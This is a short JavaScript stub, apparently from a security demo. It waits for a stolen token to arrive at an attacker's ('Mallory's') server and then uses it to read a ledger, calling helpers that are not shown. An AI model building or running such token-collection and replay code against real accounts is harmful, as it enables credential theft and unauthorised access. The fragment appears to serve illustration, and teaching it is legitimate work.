// Waits for a token to come to Mallory's server, and uses it.
import { nextLoot, readLedger } from './tools.js';

await readLedger(await nextLoot());
